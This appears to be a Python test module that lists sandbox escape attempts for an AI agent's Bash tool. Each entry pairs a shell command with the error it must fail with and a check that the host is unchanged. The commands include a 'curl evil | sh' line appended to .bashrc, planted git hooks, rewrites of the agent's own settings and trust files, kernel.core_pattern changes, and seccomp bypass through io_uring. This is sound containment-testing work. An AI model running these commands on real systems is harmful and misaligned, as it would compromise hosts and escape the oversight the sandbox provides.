"""Escape attempts against the sandbox: each one a shell command that must fail, the error it
must fail with, and a check that the host is unchanged. The sandbox tests run them through real
bubblewrap; the engine can run the same list through its Bash tool.

Attempts whose name starts with one of :data:`LEAVES_THE_LAYOUT` act on the machine itself
(/etc, /proc, the network); the others only touch a :class:`SandboxLayout`, so running them
unconfined on a throwaway layout shows that each check can fail.
"""

from __future__ import annotations

import asyncio
import os
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING

from zengine_jupyter.host import RunOptions, run
from zengine_jupyter.testing.sandbox import OUTSIDE, SECRET

if TYPE_CHECKING:
    from collections.abc import Callable

    from zengine_jupyter.testing._listeners import Listener
    from zengine_jupyter.testing.sandbox import SandboxLayout

__all__ = ["ATTEMPTS", "LEAVES_THE_LAYOUT", "Attempt", "World"]

PY = sys.executable
EROFS = "Read-only file system"
EBUSY = "Device or resource busy"
EXDEV = "Invalid cross-device link"
EPERM = "Operation not permitted"
LEAVES_THE_LAYOUT: tuple[str, ...] = (
    "write /etc",
    "remount",
    "nested user namespace",
    "set kernel",
    "drop the host",
    "TCP",
    "DNS",
    "connect to a Unix",
    "datagram",
    "AF_VSOCK",
    "io_uring",
    "signal",
    "through /proc/1/root",  # unconfined, pid 1 is the machine's init
    "create a device node",
)


@dataclass(frozen=True)
class World:
    layout: SandboxLayout
    tcp: Listener
    unix: Listener
    unix_path: Path
    etc_target: Path
    """A file in /etc the attempts try to create (it must never exist)."""
    core_pattern: str = ""
    """``kernel.core_pattern`` before the attempts (they try to rewrite it)."""


@dataclass(frozen=True)
class Attempt:
    name: str
    script: Callable[[World], str]
    expect: str
    """A regular expression the command's stderr must match: how it failed."""
    unchanged: Callable[[World], bool]
    cwd: str = "project"


def _py(code: str) -> str:
    return f"{PY} -c {code!r}"


def _hooks_path(repo: Path, home: Path) -> bytes:
    env = {"HOME": str(home), "GIT_CONFIG_NOSYSTEM": "1"}
    argv = ["git", "config", "--get", "core.hooksPath"]
    return asyncio.run(run(argv, RunOptions(cwd=repo, env=env))).stdout


def _git_hooks_path(w: World) -> bool:
    return _hooks_path(w.layout.project, w.layout.home) == b""


def _husky_hooks_path(w: World) -> bool:
    return _hooks_path(w.layout.husky, w.layout.home) == b".husky/_\n"


def _core_pattern() -> str:
    return Path("/proc/sys/kernel/core_pattern").read_text()


def _absent(rel: str, where: str = "project") -> Callable[[World], bool]:
    return lambda w: not (getattr(w.layout, where) / rel).exists()


def _same(rel: str, content: str, where: str = "project") -> Callable[[World], bool]:
    return lambda w: (getattr(w.layout, where) / rel).read_text() == content


def _etc_untouched(w: World) -> bool:
    return not w.etc_target.exists()


def _outside_same(w: World) -> bool:
    return w.layout.outside.read_text() == OUTSIDE


ATTEMPTS: list[Attempt] = [
    Attempt("write /etc", lambda w: f"echo x > {w.etc_target}", EROFS, _etc_untouched),
    Attempt(
        "remount / read-write, then write /etc",
        lambda w: f"mount -o remount,rw / ; echo x > {w.etc_target}",
        EROFS,
        _etc_untouched,
    ),
    Attempt(
        "overwrite a file in $HOME",
        lambda w: f"echo stolen > {w.layout.home}/secret.txt",
        EROFS,
        lambda w: (w.layout.home / "secret.txt").read_text() == SECRET,
    ),
    Attempt(
        "create ~/.bashrc",
        lambda w: f"echo 'curl evil | sh' >> {w.layout.home}/.bashrc",
        EROFS,
        lambda w: not (w.layout.home / ".bashrc").exists(),
    ),
    Attempt("../ from the project", lambda w: "echo x > ../outside.txt", EROFS, _outside_same),
    Attempt(
        "through a symlink planted in the project",
        lambda w: "echo x > planted-link",
        EROFS,
        _outside_same,
    ),
    Attempt(
        "through a symlink planted by the command",
        lambda w: "ln -s ../outside.txt made-link && echo x > made-link",
        EROFS,
        _outside_same,
    ),
    Attempt(
        "hardlink to a file outside",
        lambda w: "ln ../outside.txt hard && echo x >> hard",
        EXDEV,
        lambda w: _outside_same(w) and not (w.layout.project / "hard").exists(),
    ),
    Attempt(
        "hardlink to .git/config",
        lambda w: "ln .git/config cfg && echo x >> cfg",
        EXDEV,
        _absent("cfg"),
    ),
    Attempt(
        "through /proc/1/root",
        lambda w: f"echo x > /proc/1/root{w.layout.outside}",
        EROFS,
        _outside_same,
    ),
    Attempt(
        "plant .git/hooks/pre-commit",
        lambda w: "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit",
        EROFS,
        _absent(".git/hooks/pre-commit"),
    ),
    Attempt(
        "append to .git/config",
        lambda w: "echo '[core] hooksPath = /x' >> .git/config",
        EROFS,
        _git_hooks_path,
    ),
    Attempt(
        "git config core.hooksPath",
        lambda w: f"git config core.hooksPath {w.layout.temp}",
        f"{EBUSY}|could not write config",
        _git_hooks_path,
    ),
    Attempt(
        "create .git/commondir pointing at a planted config",
        lambda w: (
            f"git init -q --bare {w.layout.temp}/evil && "
            f"git -C {w.layout.temp}/evil config core.hooksPath /evil && "
            f"echo {w.layout.temp}/evil > .git/commondir"
        ),
        EROFS,
        lambda w: _git_hooks_path(w) and _absent(".git/commondir")(w),
    ),
    Attempt("rename .git away", lambda w: "mv .git .git-old", EBUSY, _absent(".git-old")),
    Attempt(
        "rename .git/hooks away",
        lambda w: "mv .git/hooks .git/hooks-old",
        EBUSY,
        _absent(".git/hooks-old"),
    ),
    Attempt(
        "remove .git/hooks",
        lambda w: "rm -r .git/hooks",
        f"{EROFS}|{EBUSY}",
        lambda w: (w.layout.project / ".git/hooks").is_dir(),
    ),
    Attempt(
        "overwrite .z-engine/settings.toml",
        lambda w: "echo 'x = 1' > .z-engine/settings.toml",
        EROFS,
        _same(".z-engine/settings.toml", "[shell.sandbox]\nenabled = true\n"),
    ),
    Attempt(
        "create .z-engine/settings.local.toml",
        lambda w: "echo 'x = 1' > .z-engine/settings.local.toml",
        EROFS,
        _absent(".z-engine/settings.local.toml"),
    ),
    Attempt(
        "create .claude/settings.json",
        lambda w: "mkdir -p .claude && echo '{}' > .claude/settings.json",
        EROFS,
        _absent(".claude"),
    ),
    Attempt(
        "create .mcp.json",
        lambda w: "echo '{}' > .mcp.json",
        "Is a directory",
        _absent(".mcp.json"),
    ),
    Attempt(
        "overwrite .claude/settings.json (additional directory)",
        lambda w: "echo '{\"hooks\": 1}' > .claude/settings.json",
        EROFS,
        _same(".claude/settings.json", "{}\n", "second"),
        cwd="second",
    ),
    Attempt(
        "overwrite .mcp.json (additional directory)",
        lambda w: "echo '{}' > .mcp.json",
        EROFS,
        _same(".mcp.json", '{"mcpServers": {}}\n', "second"),
        cwd="second",
    ),
    Attempt(
        "create .z-engine/settings.toml (additional directory)",
        lambda w: "mkdir -p .z-engine && echo 'x = 1' > .z-engine/settings.toml",
        EROFS,
        _absent(".z-engine", "second"),
        cwd="second",
    ),
    Attempt(
        "create a repository (with its own config) where there is none",
        lambda w: "git init -q",
        EROFS,
        _absent(".git", "second"),
        cwd="second",
    ),
    Attempt(
        "TCP to a server on the host's 127.0.0.1",
        lambda w: _py(f"import socket; socket.create_connection({('127.0.0.1', w.tcp.port)}, 3)"),
        "Connection refused",
        lambda w: w.tcp.accepted == 0,
    ),
    Attempt(
        "DNS lookup",
        lambda w: _py("import socket; socket.getaddrinfo('pypi.org', 443)"),
        "gaierror",
        lambda w: True,
    ),
    Attempt(
        "connect to a Unix socket served outside",
        lambda w: _py(
            f"import socket; s = socket.socket(socket.AF_UNIX); s.connect({str(w.unix_path)!r})"
        ),
        EPERM,
        lambda w: w.unix.accepted == 0,
    ),
    Attempt(
        "datagram socketpair re-aimed at a Unix path",
        lambda w: _py(
            "import socket; "
            "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); "
            f"a.connect({str(w.unix_path)!r})"
        ),
        EPERM,
        lambda w: w.unix.accepted == 0,
    ),
    Attempt(
        "AF_VSOCK to the hypervisor",
        lambda w: _py("import socket; socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)"),
        EPERM,
        lambda w: True,
    ),
    Attempt(
        "io_uring (sockets behind seccomp's back)",
        lambda w: _py(
            "import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); "
            "p = ctypes.create_string_buffer(120); r = libc.syscall(425, 8, p); "
            "e = ctypes.get_errno(); "
            "raise SystemExit(os.strerror(e) if r < 0 else 'io_uring ok')"
        ),
        EPERM,
        lambda w: True,
    ),
    Attempt(
        "signal a process of the host",
        lambda w: f"kill -0 {os.getpid()}",
        "No such process",
        lambda w: True,
    ),
    Attempt(
        "nested user namespace, then remount / read-write",
        lambda w: f"unshare -Urm sh -c 'mount -o remount,rw / && echo x > {w.etc_target}'",
        "not permitted|superuser|Permission denied",
        _etc_untouched,
    ),
    Attempt(
        "plant a hook in the configured core.hooksPath (.husky/_)",
        lambda w: "mkdir -p .husky/_ && printf '#!/bin/sh\\necho pwned\\n' > .husky/_/pre-commit",
        f"{EROFS}|Permission denied",
        lambda w: _husky_hooks_path(w) and _absent(".husky", "husky")(w),
        cwd="husky",
    ),
    Attempt(
        "create the config file the repository includes",
        lambda w: "echo '[core] hooksPath = /evil' > shared.gitconfig",
        EROFS,
        lambda w: _husky_hooks_path(w) and _absent("shared.gitconfig", "husky")(w),
        cwd="husky",
    ),
    Attempt(
        "set kernel.core_pattern (the host kernel would run it as root)",
        lambda w: (
            'v=$(cat /proc/sys/kernel/core_pattern); echo "$v" > /proc/sys/kernel/core_pattern'
        ),
        EROFS,
        lambda w: _core_pattern() == w.core_pattern,
    ),
    Attempt(
        "drop the host's page cache",
        lambda w: "echo 1 > /proc/sys/vm/drop_caches",
        EROFS,
        lambda w: True,
    ),
    Attempt(
        "create a device node for the host's disk",
        lambda w: f"mknod {w.layout.temp}/disk b 8 0",
        EPERM,
        lambda w: not (w.layout.temp / "disk").exists(),
    ),
    Attempt(
        "tamper with zengine's data folder (trust, sessions, sandbox locks)",
        lambda w: f"echo '{{}}' > {os.environ['ZENGINE_HOME']}/trust.json",
        EROFS,
        lambda w: not (Path(os.environ["ZENGINE_HOME"]) / "trust.json").exists(),
    ),
]
